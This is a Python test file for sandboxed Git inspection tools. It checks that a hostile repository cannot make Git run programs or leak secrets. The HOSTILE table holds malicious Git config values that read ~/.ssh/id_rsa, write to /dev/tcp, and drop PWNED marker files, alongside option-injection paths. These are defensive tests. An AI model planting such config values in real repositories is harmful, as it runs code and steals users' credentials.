"""The tools that ask Git: what they say, and that a hostile repository gets nothing done by them."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.changing import NO
from tests.support.commanding import Commanding, canary, commanding, git, needs_linux, without_bubblewrap
from tests.support.workspaces import SECRET

pytestmark = needs_linux


@pytest.fixture
def repo(tmp_path: Path) -> Iterator[Commanding]:
    """A repository with one commit and a change, and a user who never agrees."""
    with commanding(tmp_path, NO) as ws:
        ws.write({"a.py": "one\n", "sub/b.py": "1\n"})
        git(ws.folder, "init", "-q", "-b", "main")
        git(ws.folder, "add", ".")
        git(ws.folder, "commit", "-q", "-m", "First of all")
        ws.write({"a.py": "two\n", "sub/b.py": "2\n", "new.py": ""})
        yield ws


async def test_the_status_names_branch_and_files(repo: Commanding) -> None:
    said = await repo.text("git_status")
    assert said.splitlines() == ["## main", " M a.py", " M sub/b.py", "?? new.py"]
    assert (await repo.text("git_status", path="sub")).splitlines() == ["## main", " M sub/b.py"]


async def test_a_clean_repository_is_told(repo: Commanding) -> None:
    git(repo.folder, "add", ".")
    git(repo.folder, "commit", "-q", "-m", "x")
    assert (await repo.text("git_status")).splitlines() == ["## main", "[no changes]"]
    assert await repo.text("git_diff") == "[nothing]"


async def test_the_diff_is_of_what_is_not_staged_or_of_what_is(repo: Commanding) -> None:
    git(repo.folder, "add", "sub")
    said = await repo.text("git_diff")
    assert "-one\n+two" in said
    assert "sub/b.py" not in said
    said = await repo.text("git_diff", staged=True)
    assert "-1\n+2" in said
    assert "a.py" not in said
    assert await repo.text("git_diff", path="sub") == "[nothing]"


async def test_the_log_has_a_line_for_each_commit(repo: Commanding) -> None:
    git(repo.folder, "commit", "-q", "-a", "-m", "Second")
    lines = (await repo.text("git_log")).splitlines()
    assert [line.partition(" u: ")[2] for line in lines] == ["Second", "First of all"]
    assert len((await repo.text("git_log", count=1)).splitlines()) == 1
    assert len((await repo.text("git_log", path="new.py")).splitlines()) == 1


async def test_nobody_is_asked_in_the_sandbox(repo: Commanding) -> None:
    await repo.text("git_status")
    assert repo.acting.asked == []


HOSTILE = {
    "core.fsmonitor": "touch {out}/PWNED; echo x > /dev/tcp/127.0.0.1/{port}; touch PWNED; cat ~/.ssh/id_rsa ../secret",
    "core.pager": "touch {out}/PWNED",
    "diff.external": "touch {out}/PWNED; touch PWNED",
    "diff.x.textconv": "touch {out}/PWNED; touch PWNED; cat ../secret; echo",
    "diff.x.command": "touch {out}/PWNED; touch PWNED; cat ../secret; echo",
    "filter.x.clean": "touch {out}/PWNED; touch PWNED; cat ../secret; echo x > /dev/tcp/127.0.0.1/{port}; cat",
    "filter.x.process": "touch {out}/PWNED; touch PWNED",
    "gpg.program": "touch {out}/PWNED",
    "log.showSignature": "true",
}


@pytest.mark.parametrize("key", HOSTILE)
async def test_t64_t65_a_repository_that_makes_git_run_programs_gets_nothing_done(repo: Commanding, key: str) -> None:
    with canary(repo.home / "agent.sock") as bird:
        git(repo.folder, "config", key, HOSTILE[key].format(out=repo.outside, port=bird.tcp))
        repo.write({".gitattributes": "* filter=x diff=x\n", ".git/hooks/post-index-change": "touch PWNED\n"})
        (repo.folder / ".git/hooks/post-index-change").chmod(0o755)
        for tool in ("git_status", "git_diff", "git_log"):
            assert SECRET not in str(await repo.call(tool))
        assert bird.hits == []
    assert not repo.is_there("PWNED")
    assert not (repo.outside / "PWNED").exists()
    assert repo.survivors() == []


@pytest.mark.parametrize("key", ["core.fsmonitor", "filter.x.clean", "diff.x.textconv"])
def test_such_a_repository_is_dangerous_outside_of_it(repo: Commanding, key: str) -> None:
    """What the test above would be worth nothing without."""
    git(repo.folder, "config", key, "touch PWNED; cat")
    repo.write({".gitattributes": "* filter=x diff=x\n"})
    git(repo.folder, "diff")
    assert repo.is_there("PWNED")


async def test_the_index_is_not_written_to(repo: Commanding) -> None:
    os.utime(repo.folder / "a.py")
    before = repo.read(".git/index")
    await repo.text("git_status")
    assert repo.read(".git/index") == before


@pytest.mark.parametrize("name", [".env", ".ENV.local", "sub/server.Pem", "sub/.aws/credentials", "sub/id_rsa"])
async def test_t21_secrets_are_left_out_of_a_diff(repo: Commanding, name: str) -> None:
    repo.write({name: "before\n"})
    git(repo.folder, "add", "-f", name)
    git(repo.folder, "commit", "-q", "-m", "x")
    repo.write({name: SECRET})
    git(repo.folder, "add", "-f", name)
    for given in ({}, {"path": name}, {"path": "."}, {"path": name.rpartition("/")[0] or "."}):
        assert SECRET not in str(await repo.call("git_diff", staged=True, **given))
    assert "+two" in await repo.text("git_diff")


@pytest.mark.parametrize("path", ["..", "/etc", "../ws/../secret"])
async def test_a_path_outside_is_refused(repo: Commanding, path: str) -> None:
    assert (await repo.failure("git_log", path=path)).code == "outside_workspace"


@pytest.mark.parametrize("path", ["*", ":(top)", ":!a.py", "--output=PWNED", "-p"])
async def test_a_path_is_neither_a_pattern_nor_an_option(repo: Commanding, path: str) -> None:
    assert await repo.text("git_diff", path=path) == "[nothing]"
    assert not repo.is_there("PWNED")


async def test_a_folder_without_a_repository_is_told(tmp_path: Path) -> None:
    with commanding(tmp_path) as ws:
        failure = await ws.failure("git_status")
        assert failure.code == "not_a_repository"
        assert str(tmp_path) not in failure.message


async def test_a_repository_above_the_workspace_is_not_looked_at(tmp_path: Path) -> None:
    with commanding(tmp_path) as ws:
        git(tmp_path, "init", "-q")
        assert (await ws.failure("git_status")).code == "not_a_repository"


async def test_a_further_working_tree_is_looked_at_and_its_repository_is_read_only(tmp_path: Path) -> None:
    with commanding(tmp_path) as ws:
        (tmp_path / "main").mkdir()
        git(tmp_path / "main", "init", "-q")
        git(tmp_path / "main", "commit", "-q", "--allow-empty", "-m", "Begun")
        ws.folder.rmdir()
        git(tmp_path / "main", "worktree", "add", "-q", "-b", "other", str(ws.folder))
        ws.roots.replace([])
        ws.roots.replace([("ws", str(ws.folder))])
        assert (await ws.text("git_status")).splitlines()[0] == "## other"
        assert "Begun" in await ws.text("git_log")
        assert (await ws.ran("git commit -q --allow-empty -m x; touch ../main/.git/x"))[0].code != 0
        assert (await ws.ran("ls ../main/.git/HEAD && ls -A ../main | grep -v '^.git$'"))[0].code != 0


async def test_a_repository_without_commits_is_told(tmp_path: Path) -> None:
    with commanding(tmp_path) as ws:
        git(ws.folder, "init", "-q")
        assert (await ws.failure("git_log")).code == "no_commits"


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="only root can give a folder away")
async def test_a_repository_of_another_user_is_read_in_the_sandbox(repo: Commanding) -> None:
    for path in (repo.folder, *repo.folder.rglob("*")):
        os.chown(path, 65534, 65534)
    assert "a.py" in await repo.text("git_status")


async def test_long_output_is_cut(repo: Commanding) -> None:
    repo.write({"a.py": "x\n" * 100_000})
    result = await repo.done("git_diff")
    assert result.truncated
    assert "bytes left out" in result.text


async def test_without_git_it_says_so(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "bwrap").symlink_to("/usr/bin/bwrap")
    with commanding(tmp_path, path=str(tmp_path / "bin")) as ws:
        assert (await ws.failure("git_status")).code == "not_installed"


async def test_a_git_that_came_with_the_workspace_is_not_run(tmp_path: Path) -> None:
    with commanding(tmp_path, path=f"{tmp_path / 'ws'}:/usr/bin:/bin") as ws:
        git(ws.folder, "init", "-q")
        ws.write({"git": "#!/bin/sh\ntouch PWNED; echo PWNED\n"})
        (ws.folder / "git").chmod(0o755)
        assert "PWNED" not in await ws.text("git_status")


async def test_without_a_sandbox_it_asks_and_runs_only_then(repo: Commanding, monkeypatch: pytest.MonkeyPatch) -> None:
    without_bubblewrap(monkeypatch)
    git(repo.folder, "config", "core.fsmonitor", "touch PWNED")
    assert (await repo.failure("git_status")).code == "rejected"
    assert "NOT confined, for bubblewrap is not installed" in repo.question.detail
    assert not repo.is_there("PWNED")


async def test_without_a_sandbox_it_works_after_a_yes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    without_bubblewrap(monkeypatch)
    with commanding(tmp_path) as ws:
        git(ws.folder, "init", "-q", "-b", "main")
        assert "## No commits yet on main" in await ws.text("git_status")
